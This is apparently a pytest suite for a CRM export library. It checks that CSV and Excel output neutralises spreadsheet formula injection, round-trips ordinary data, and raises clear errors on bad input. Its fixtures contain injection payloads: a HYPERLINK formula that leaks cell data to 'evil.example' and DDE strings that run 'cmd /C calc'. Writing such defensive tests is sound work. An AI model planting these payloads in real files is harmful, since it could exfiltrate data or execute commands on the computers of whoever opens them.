"""Safe exports: hostile text arrives neutralised, everything else round-trips, mistakes get clear errors."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from crmlab.export import is_dangerous, neutralise, to_safe_csv, to_safe_excel

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A2, "Click for your prize")':
        '\'=HYPERLINK("http://evil.example/?leak="&A2, "Click for your prize")',
    "@SUM(A1)": "'@SUM(A1)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "  =1+1": "'  =1+1",
}
SAFE_TEXT = ["Sara Ahmadi", "سارا احمدی", "Nima Home, Office & Co", 'He said "hi"', "+989121234567", "-5", "a=b", ""]


def _frame() -> pd.DataFrame:
    names = list(HOSTILE) + SAFE_TEXT
    n = len(names)
    return pd.DataFrame({
        "name": names,
        "balance": np.linspace(-50.25, 40.5, n),
        "orders": np.arange(-3, n - 3, dtype="int64"),
        "vip": [i % 2 == 0 for i in range(n)],
    }, index=pd.Index(np.arange(101, 101 + n), name="customer_id"))


def _expected_names() -> list[str]:
    return list(HOSTILE.values()) + SAFE_TEXT


@pytest.mark.parametrize(("text", "dangerous"), [
    ("=1+1", True), ("+1+cmd", True), ("-1+cmd", True), ("@A1", True), ("\tx", True), ("\rx", True), ("\nx", True),
    ("   @A1", True), ("-5", False), ("+98912", False), ("1.5e3", False), ("-.5", False), ("Sara", False),
    ("", False), ("a=b", False), ("   ", False),
])
def test_what_is_dangerous(text, dangerous):
    assert is_dangerous(text) is dangerous


def test_numeric_text_can_be_quoted_too():
    assert is_dangerous("-5", keep_numeric_text=False) and is_dangerous("+98912", keep_numeric_text=False)
    out = neutralise(pd.DataFrame({"phone": ["+98912", "0912"]}), keep_numeric_text=False)
    assert out["phone"].tolist() == ["'+98912", "0912"]


def test_neutralise_quotes_text_only_and_leaves_the_input_alone():
    df = _frame()
    before = df.copy()
    out = neutralise(df)
    pd.testing.assert_frame_equal(df, before)
    assert out.columns.tolist() == ["customer_id", "name", "balance", "orders", "vip"]
    assert out["name"].tolist() == _expected_names()
    for column in ["customer_id", "balance", "orders", "vip"]:
        np.testing.assert_array_equal(out[column].to_numpy(), df.reset_index()[column].to_numpy())
        assert out[column].dtype == df.reset_index()[column].dtype


def test_neutralise_reaches_every_kind_of_text_column_and_header():
    df = pd.DataFrame({
        "=title": ["ok", "ok"],
        "segment": pd.Categorical(["=evil()", "Loyal"]),
        "mixed": pd.Series(["@x", 7], dtype=object),
        "note": pd.array(["+bad()", None], dtype="string"),
    })
    out = neutralise(df)
    assert out.columns.tolist() == ["'=title", "segment", "mixed", "note"]
    assert out["segment"].tolist() == ["'=evil()", "Loyal"]
    assert out["mixed"].tolist() == ["'@x", 7]  # a number in a text column stays a number
    assert out["note"].iloc[0] == "'+bad()" and pd.isna(out["note"].iloc[1])
    unnamed = neutralise(pd.DataFrame({"a": [1]}, index=[5]))
    assert unnamed.columns.tolist() == ["a"] and unnamed.index.tolist() == [0]


def test_csv_read_back_with_the_csv_module(tmp_path):
    df = _frame()
    path = to_safe_csv(df, tmp_path / "targets.csv")
    assert path == tmp_path / "targets.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["customer_id", "name", "balance", "orders", "vip"]
    assert [r[1] for r in rows[1:]] == _expected_names()
    assert [int(r[3]) for r in rows[1:]] == df["orders"].tolist()
    assert rows[1][2] == "-50.25" and rows[1][3] == "-3"  # negative numbers stay numbers, unquoted
    raw = path.read_text(encoding="utf-8-sig").splitlines()
    assert raw[1].startswith('101,"\'=HYPERLINK(') and ",-50.25,-3,True" in raw[1]


def test_csv_round_trips_with_pandas(tmp_path):
    df = _frame()
    back = pd.read_csv(to_safe_csv(df, tmp_path / "t.csv"), encoding="utf-8-sig", keep_default_na=False)
    expected = df.reset_index().assign(name=_expected_names())
    pd.testing.assert_frame_equal(back, expected, check_dtype=False)


def test_csv_of_course_dates_and_gaps(tmp_path):
    df = pd.DataFrame({"when": pd.to_datetime(["2025-03-20 21:10"]).tz_localize("UTC"), "gap": [np.nan],
                       "who": [None]})  # fmt: skip
    with open(to_safe_csv(df, tmp_path / "d.csv"), encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["2025-03-20 21:10:00+00:00", "", ""]


def test_excel_read_back_with_openpyxl(tmp_path):
    df = _frame()
    path = to_safe_excel(df, tmp_path / "targets.xlsx", sheet_name="At risk")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["At risk"]
    sheet = book["At risk"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("customer_id", "name", "balance", "orders", "vip")
    xml_lines = [n.replace("\r", "\n") for n in _expected_names()]  # XML reads a carriage return as a line feed
    assert [r[1] or "" for r in rows[1:]] == xml_lines
    assert [r[2] for r in rows[1:]] == pytest.approx(df["balance"].tolist())
    assert [r[3] for r in rows[1:]] == df["orders"].tolist() and rows[1][3] == -3
    assert [r[4] for r in rows[1:]] == df["vip"].tolist()
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds  # no formula anywhere
    assert sheet["B2"].data_type == "s" and sheet["C2"].data_type == "n" and sheet["C2"].value < 0


def test_excel_one_sheet_per_segment_dates_and_gaps(tmp_path):
    champions = pd.DataFrame({"name": ["=1+1"], "last": pd.to_datetime(["2025-03-20 21:10"]).tz_localize("UTC")})
    at_risk = pd.DataFrame({"name": ["Sara\x00"], "spend": [np.nan], "n": pd.array([None], dtype="Int64")})
    path = to_safe_excel({"Champions": champions, "At risk": at_risk}, tmp_path / "lists.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Champions", "At risk"]
    assert book["Champions"]["A2"].value == "'=1+1"
    assert book["Champions"]["B2"].value == pd.Timestamp("2025-03-20 21:10").to_pydatetime()
    assert [c.value for c in book["At risk"][2]] == ["Sara", None, None]


@pytest.mark.parametrize("writer", [to_safe_csv, to_safe_excel])
@pytest.mark.parametrize(("df", "error", "match"), [
    ([1, 2, 3], TypeError, r"`df` must be a pandas DataFrame, but a list was passed"),
    (pd.Series([1, 2]), TypeError, r"but a Series was passed.*\.to_frame\(\)"),
    (None, TypeError, r"but a NoneType was passed"),
])
def test_not_a_dataframe(tmp_path, writer, df, error, match):
    suffix = ".csv" if writer is to_safe_csv else ".xlsx"
    with pytest.raises(error, match=match):
        writer(df, tmp_path / f"x{suffix}")


@pytest.mark.parametrize(("writer", "suffix"), [(to_safe_csv, ".csv"), (to_safe_excel, ".xlsx")])
def test_bad_paths(tmp_path, writer, suffix):
    df = pd.DataFrame({"a": [1]})
    with pytest.raises(FileNotFoundError, match=r"folder of `path` does not exist: .*no_such_folder"):
        writer(df, tmp_path / "no_such_folder" / f"x{suffix}")
    folder = tmp_path / f"folder{suffix}"
    folder.mkdir()
    with pytest.raises(IsADirectoryError, match="`path` is a folder, not a file"):
        writer(df, folder)
    with pytest.raises(ValueError, match=rf"`path` must end in one of \['\{suffix}'\], but '.*x.txt' was passed"):
        writer(df, tmp_path / "x.txt")
    with pytest.raises(TypeError, match=r"`path` must be a file name \(str or pathlib.Path\), but a int"):
        writer(df, 42)
    assert writer(df, str(tmp_path / f"ok{suffix}")) == Path(tmp_path / f"ok{suffix}")


@pytest.mark.parametrize(("sheets", "match"), [
    ({}, "empty mapping"),
    ({"a/b": pd.DataFrame({"a": [1]})}, r"sheet names must have 1 to 31 characters.*'a/b'"),
    ({"x" * 32: pd.DataFrame({"a": [1]})}, "1 to 31 characters"),
])
def test_bad_sheets(tmp_path, sheets, match):
    with pytest.raises(ValueError, match=match):
        to_safe_excel(sheets, tmp_path / "x.xlsx")
    with pytest.raises(TypeError, match=r"`df\['s'\]` must be a pandas DataFrame"):
        to_safe_excel({"s": [1]}, tmp_path / "x.xlsx")
